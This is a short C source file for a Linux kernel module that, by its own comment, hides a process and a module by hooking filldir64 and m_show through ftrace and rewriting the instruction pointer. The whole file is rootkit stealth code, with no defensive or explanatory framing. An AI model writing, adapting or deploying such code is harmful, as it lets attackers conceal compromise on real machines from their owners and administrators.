/* Hides a process and a module by way of the kernel's own function tracer. */
#include <linux/ftrace.h>

#include "hook.h"

static noinline long always_one(void) { return 1; }
static noinline long always_zero(void) { return 0; }

static void notrace entry(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
    struct pt_regs *regs = ftrace_get_regs(fregs);
    if (hidden_entry((const char *)regs->si, regs->dx))
        regs->ip = (unsigned long)always_one;
}

static void notrace module(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
    struct pt_regs *regs = ftrace_get_regs(fregs);
    if (hidden_module((struct list_head *)regs->si))
        regs->ip = (unsigned long)always_zero;
}

#define FLAGS (FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION)
static struct ftrace_ops entries = { .func = entry, .flags = FLAGS };
static struct ftrace_ops modules = { .func = module, .flags = FLAGS };

static int __init start(void)
{
    int failed = ftrace_set_filter_ip(&entries, symbol("filldir64"), 0, 0);
    if (!failed)
        failed = register_ftrace_function(&entries);
    if (!failed)
        failed = ftrace_set_filter_ip(&modules, symbol("m_show"), 0, 0);
    return failed ? failed : register_ftrace_function(&modules);
}
module_init(start);
